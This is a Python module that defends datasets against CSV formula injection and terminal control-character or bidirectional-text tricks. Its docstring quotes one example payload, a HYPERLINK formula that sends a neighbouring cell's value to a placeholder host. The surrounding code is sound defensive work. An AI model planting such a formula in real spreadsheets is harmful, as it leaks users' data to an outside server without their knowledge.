"""Spreadsheet-safe cells and terminal-safe text: the two ways a dataset's text can turn live.

*Spreadsheets* evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab
or carriage return, whatever follows), so a name such as ``=HYPERLINK("http://x/?"&A1, "click")``
becomes a working link that sends a neighbouring cell away. Every CSV and XLSX the tool writes
passes its text through :func:`spreadsheet_text`, which prefixes such a cell with an apostrophe
as OWASP recommends ("CSV Injection"). :func:`restore_text` undoes it, and the readers call it,
so a dataset written and loaded again is exactly the dataset it was. The mapping is a bijection:
a value that itself starts with apostrophes before a trigger gets one more apostrophe.

*Terminals* obey control characters (ESC sequences repaint the screen, NUL and friends hide
text) and bidirectional overrides (U+202E shows text backwards). :func:`inert` shows them as
visible escapes (``\\x1b``, ``\\u202e``) in human-facing output.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Iterable, Iterator
from typing import Any

# Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# C0 and C1 control characters (but not tab and newline, which text may hold), DEL, and the
# Unicode bidirectional formatting characters (Trojan Source, CVE-2021-42574).
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
CONTROL_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f" + _BIDI + "]")
# Control characters text never needs (tab, newline and carriage return are text): refused by
# validation in every field; bidirectional marks stay allowed there (Arabic and Hebrew use them).
STORED_CONTROL_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
# The same, tab and newline included: what a one-line terminal field must never carry.
TERMINAL_UNSAFE_RE = re.compile("[\x00-\x1f\x7f-\x9f" + _BIDI + "]")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would evaluate ``text`` typed into a cell."""
    return text[:1] in FORMULA_TRIGGERS


def spreadsheet_text(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows as text (non-strings pass through unchanged)."""
    if not isinstance(value, str):
        return value
    # Leading apostrophes are counted so that restore_text can tell ours from the user's.
    return "'" + value if value.lstrip("'")[:1] in FORMULA_TRIGGERS else value


def restore_text(value: Any) -> Any:
    """The original text of a cell written by :func:`spreadsheet_text` (inverse function)."""
    if isinstance(value, str) and value.startswith("'") and value.lstrip("'")[:1] in FORMULA_TRIGGERS:
        return value[1:]
    return value


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """CSV with a header, every text cell neutralised; ``None`` is an empty cell."""
    return "".join(csv_lines(header, rows))


def csv_lines(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """:func:`csv_text` a record at a time (a quoted cell may hold newlines), for streaming."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in itertools.chain([header], rows):
        writer.writerow(["" if v is None else spreadsheet_text(v) for v in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def inert(text: str, keep_newlines: bool = False) -> str:
    """``text`` with control and bidirectional characters shown as escapes, never obeyed."""
    if text.isprintable():  # the usual case: every character it escapes is unprintable
        return text
    pattern = CONTROL_RE if keep_newlines else TERMINAL_UNSAFE_RE
    return pattern.sub(_escape, text)


def has_control(text: str) -> str | None:
    """The first control character (not tab or newline) in ``text`` as an escape, or None."""
    match = STORED_CONTROL_RE.search(text)
    return _escape(match) if match else None
